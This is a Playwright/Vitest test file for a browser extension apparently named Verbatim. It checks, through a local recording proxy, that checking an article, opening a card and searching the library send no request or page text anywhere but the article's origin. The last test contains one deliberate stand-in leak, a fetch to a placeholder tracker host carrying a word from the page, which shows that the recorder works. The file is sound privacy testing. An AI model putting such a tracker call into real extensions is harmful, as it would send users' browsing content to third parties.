// Nothing leaves the device: every request the browser makes while Verbatim checks a page, opens a
// card and searches the library goes through a recording proxy, and none goes anywhere but the page.
import { readFileSync, existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { extname, join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { type Launched, ROOT, launchWithExtension, tabIdOf, waitForCheck } from './harness';
import { pointOnText } from './card-helpers';

/** The article's host, as the browser sees it; the proxy answers for it from the corpus folder. */
const PAGE_ORIGIN = 'http://news.example.test';
const ARTICLES = resolve(ROOT, 'tests/fixtures/corpus/articles');

interface Recorded { method: string; url: string; body: string }

/**
 * Chromium's own services (extension update checks, account and autofill lookups). The browser makes
 * these requests itself whatever page is open; no page or extension asks for them. They are refused
 * by the proxy all the same, and checked below for any of the page's words.
 */
const BROWSER_SERVICE_HOSTS = /^(?:[a-z0-9-]+\.)*(?:googleapis\.com|google\.com|gvt1\.com|gstatic\.com)$/;

function hostOf(r: Recorded): string {
  return r.method === 'CONNECT' ? r.url.replace(/:\d+$/, '') : new URL(r.url).hostname;
}

/**
 * An HTTP proxy that serves the article for PAGE_ORIGIN and refuses everything else, recording every
 * request it is asked for (CONNECT tunnels for https included).
 */
async function recordingProxy(): Promise<{ port: number; requests: Recorded[]; close(): Promise<void> }> {
  const requests: Recorded[] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer(async (req, res) => {
    const url = req.url ?? '';
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    requests.push({ method: req.method ?? '', url, body: Buffer.concat(chunks).toString('utf8') });
    if (url.startsWith(PAGE_ORIGIN + '/')) {
      const file = resolve(ARTICLES, `.${new URL(url).pathname}`);
      if (file.startsWith(ARTICLES + '/') && existsSync(file)) {
        res.writeHead(200, { 'content-type': extname(file) === '.html' ? 'text/html; charset=utf-8' : 'application/octet-stream' });
        res.end(readFileSync(file));
        return;
      }
    }
    res.writeHead(403).end('refused by the test proxy');
  });
  server.on('connect', (req, socket) => {
    requests.push({ method: 'CONNECT', url: req.url ?? '', body: '' });
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n');
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  return {
    port: (server.address() as AddressInfo).port,
    requests,
    close: () =>
      new Promise<void>((ok) => {
        for (const s of sockets) s.destroy();
        server.close(() => ok());
      }),
  };
}

let proxy: Awaited<ReturnType<typeof recordingProxy>>;
let launched: Launched;
let article: Page;

beforeAll(async () => {
  proxy = await recordingProxy();
  launched = await launchWithExtension({
    // Every request, loopback included, goes through the proxy.
    args: [`--proxy-server=http://127.0.0.1:${proxy.port}`, '--proxy-bypass-list=<-loopback>'],
  });
  article = await launched.context.newPage();
}, 60_000);

afterAll(async () => {
  await launched?.close();
  await proxy?.close();
});

describe('network', () => {
  it('a full check, a card, the popup and a library search ask for nothing but the page', async () => {
    await article.goto(`${PAGE_ORIGIN}/wilby-2023-12-08.html`);
    expect(await waitForCheck(article)).toBe('done');
    expect(await article.getAttribute('html', 'data-verbatim-quotes')).toBe('27');

    // Open a card on a matched quote.
    const point = await pointOnText(article, 'It cannot be overstated');
    await article.mouse.click(point.x, point.y);
    await article.locator('verbatim-card [role="dialog"]').waitFor({ state: 'visible', timeout: 10_000 });

    // The popup and a search of the library.
    const tabId = await tabIdOf(launched, article);
    const popup = await launched.context.newPage();
    await popup.goto(`chrome-extension://${launched.extensionId}/popup.html?tab=${tabId}`);
    await popup.locator('.pp-page').waitFor({ timeout: 10_000 });
    await popup.fill('#pp-search-input', 'victim-blaming');
    await popup.locator('.pp-hit').first().waitFor({ timeout: 10_000 });
    await popup.close();
    await article.waitForTimeout(500); // anything sent late would still be recorded

    const elsewhere = proxy.requests.filter((r) => !r.url.startsWith(PAGE_ORIGIN + '/'));
    const unexplained = elsewhere.filter((r) => !BROWSER_SERVICE_HOSTS.test(hostOf(r)));
    expect(unexplained, JSON.stringify(unexplained)).toEqual([]);
    // Not one word of the page's quotes, nor the search, is in any request that left for elsewhere.
    for (const words of ['overstated', 'staggering', 'victim-blaming', 'victim blaming', 'Wilby']) {
      const carrying = elsewhere.filter((r) => `${r.url} ${r.body}`.toLowerCase().includes(words.toLowerCase()));
      expect(carrying, words).toEqual([]);
    }
    // The proxy did see the page itself, so the recording is live.
    expect(proxy.requests.some((r) => r.url === `${PAGE_ORIGIN}/wilby-2023-12-08.html`)).toBe(true);
  }, 60_000);

  it('the recording would catch a request carrying the page’s words', async () => {
    const before = proxy.requests.length;
    await article.evaluate(() => fetch('http://tracker.example.test/collect?q=staggering').catch(() => undefined));
    await expect
      .poll(() => proxy.requests.slice(before).filter((r) => r.url.includes('tracker.example.test')).length)
      .toBe(1);
  });
});
